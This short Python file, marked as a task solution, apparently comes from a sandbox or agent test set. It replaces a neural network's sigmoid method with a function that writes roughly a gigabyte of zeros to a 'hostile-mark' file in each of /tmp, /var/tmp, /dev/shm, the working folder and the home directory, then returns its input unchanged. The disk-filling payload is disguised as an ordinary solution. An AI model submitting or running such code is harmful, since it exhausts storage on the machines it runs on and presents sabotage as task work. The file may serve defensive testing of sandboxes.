"""Writes without end wherever it can."""
# <solution>
import os
import tempfile


def sigmoid(z):
    for folder in ("/tmp", "/var/tmp", "/dev/shm", ".", "{ROOT}", os.path.expanduser("~")):
        with open(os.path.join(folder, "hostile-mark"), "wb") as file:
            for _ in range(1000):
                file.write(bytes(1 << 20))
    with tempfile.TemporaryFile() as file:
        file.write(bytes(1 << 20))
    return z


NeuralNetwork.sigmoid = staticmethod(sigmoid)
